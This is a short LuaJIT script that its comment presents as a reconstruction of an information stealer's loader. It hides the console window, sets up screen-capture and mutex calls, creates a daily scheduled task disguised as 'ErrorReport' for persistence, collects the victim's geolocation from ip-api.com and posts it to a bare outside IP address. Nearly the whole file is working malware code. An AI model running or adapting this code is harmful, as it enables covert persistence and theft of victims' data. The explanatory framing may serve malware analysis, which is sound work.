-- What a stealer's loader does behind LuaJIT bytecode: screen, mutex, a task, a post to a bare address.
local ffi = require("ffi")
ffi.cdef[[
void* GetConsoleWindow(void); int ShowWindow(void*, int); void* GetDC(void*);
int BitBlt(void*, int, int, int, int, void*, int, int, unsigned long); void* CreateMutexW(void*, int, const wchar_t*);
]]
local user = ffi.load("user32")
user.ShowWindow(ffi.C.GetConsoleWindow(), 0)
os.execute("schtasks /create /sc daily /st 11:00 /f /tn ErrorReport /tr C:\\Windows\\Setup\\Scripts\\ErrorHandler.cmd")
local http = require("socket.http")
local place = http.request("http://ip-api.com/json")
http.request("http://192.0.2.23/api/AAAA", place)
